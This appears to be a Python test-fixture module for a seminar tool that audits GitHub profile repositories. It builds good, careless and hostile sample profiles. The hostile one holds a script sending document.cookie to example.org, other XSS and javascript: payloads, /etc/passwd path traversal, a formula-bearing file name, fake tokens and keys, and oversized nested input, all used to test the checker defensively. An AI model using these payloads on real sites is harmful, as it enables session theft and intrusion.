"""Three made-up profiles, built in code: a good one, a careless one and a hostile one."""

import io
import json
import zipfile
from collections.abc import Iterable
from pathlib import Path

from PIL import ExifTags, Image, PngImagePlugin

from seminar_utils.github_profile.build import build
from seminar_utils.github_profile.checks.tables import KINDS, Finding

USER = "mina-example"
PAGES = Path(__file__).with_name("pages")
SVG = b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'></svg>"

PROFILE = {
    "user": USER,
    "about": "Second year of statistics.\nI read slowly and test much.\n한국어와 영어 🙂",
    "statement": "A deeper plain net has a larger training error (R7).",
    "how_tested": "Plain nets of 8 and 32 layers from the same first weights.",
    "verdict": "Not shown at this scale.",
    "alt": "Training error against epochs: the curve of 32 layers ends above that of 8.",
    "seed": 3,
    "caption": "One seed is a picture, no evidence.",
    "repeat": 'experiments.start("twins", seed=3)',
    "surprised": "How early the curves part.",
    "open_question": "Would longer training close the gap?",
}


def good(folder: Path) -> Path:
    """As notebook 04 builds it."""
    source = folder / "figure-of-my-run.png"
    source.write_bytes(png())
    return build({**PROFILE, "figure": str(source)}, folder)


def careless(folder: Path) -> Path:
    """Meant well: a template filled in halfway, a photograph, a notebook never looked through."""
    output = "File /home/mina.example/course/run.py\n\x1b[31mError\x1b[0m"
    files = {
        "README.md": (PAGES / "careless.md").read_text(encoding="utf-8").encode("utf-8-sig"),
        "figure.png": png(text={"Author": "Mina"}),
        "desk.jpg": jpeg(gps=True),
        "run.ipynb": notebook("import torch", output),
    }
    return write(folder / USER, files)


def hostile(folder: Path) -> Path:
    """Meant badly: scripts, keys, paths out of the repository, names that hold codes."""
    files = {
        "README.md": HOSTILE.encode(),
        "=cmd()\x1b[2J.svg": SVG.replace(b"></", b" onload='a()'></"),
        "notes.txt": b"api_key = '%b'\n-----BEGIN OPENSSH %b KEY-----\n" % (b"k9" * 10, b"PRIVATE"),
        "not_a_picture.png": b"MZ" + bytes(100),
        "deep.ipynb": b"[" * 100_000,
    }
    return write(folder / "somebody-else", files)


TOKEN = "ghp_" + "a1B2" * 9
REGISTRATION_NUMBER = "990230-1234567"  # 30 February: nobody's

HOSTILE = f"""# hi

<script>fetch("https://example.org/" + document.cookie)</script>
<img src="x.png" onerror="alert(1)">
<iframe src="https://example.org"></iframe>

[click](javascript:alert(1)) [up](../../../etc/passwd) ![etc](../../etc/passwd)
![no](not_a_picture.png) ![data](data:image/png;base64,AAAA)

token: {TOKEN}
890201-1234568 and {REGISTRATION_NUMBER}

<div><div><div><div>
**a** \x1b[31m\u202egnp.x

{"[" * 3_000}
{"> " * 300}x
"""


def write(root: Path, files: dict[str, bytes]) -> Path:
    """Write files below a folder, and return it."""
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)
    return root


def zipped(files: dict[str, bytes], **options) -> bytes:
    """Return a zip of files."""
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content, **options)
    return raw.getvalue()


def kinds(findings: Iterable[Finding]) -> list[tuple[str, int | None]]:
    """Return the kind, as in findings.tsv, and the line of each finding."""
    keys = {tuple(row): key for key, row in KINDS.items()}
    said = [(each, (each.what.message, each.why.message, each.mend.message)) for each in findings]
    return [(keys[each.level, *texts, each.costs], each.line) for each, texts in said]


def png(text: dict[str, str] | None = None, size=(8, 8), colour: str = "white") -> bytes:
    """Return a small PNG, with text chunks if wanted."""
    chunks = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        chunks.add_text(key, value)
    return saved(Image.new("RGB", size, colour), "PNG", pnginfo=chunks)


def exif(gps: bool = False, **tags: object) -> Image.Exif:
    """Return tags by name, with a position if wanted."""
    made = Image.Exif()
    made.update({ExifTags.Base[name]: value for name, value in tags.items()})
    if gps:
        made[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitude: (37.0, 30.0, 0.0)}
    return made


def jpeg(gps: bool = False, **tags: object) -> bytes:
    """Return a small JPEG, with a position and tags by name if wanted."""
    return saved(Image.new("RGB", (8, 8), "white"), "JPEG", exif=exif(gps, **tags))


def notebook(source: str, output: str = "") -> bytes:
    """Return a notebook of one cell with one output."""
    outputs = [{"output_type": "stream", "name": "stdout", "text": [output]}]
    cell = {"cell_type": "code", "source": [source], "outputs": outputs, "metadata": {}}
    return json.dumps({"cells": [cell], "nbformat": 4, "nbformat_minor": 5}).encode()


def saved(image: Image.Image, kind: str = "PNG", **options) -> bytes:
    """Return a picture as a file of a kind."""
    raw = io.BytesIO()
    image.save(raw, kind, **options)
    return raw.getvalue()
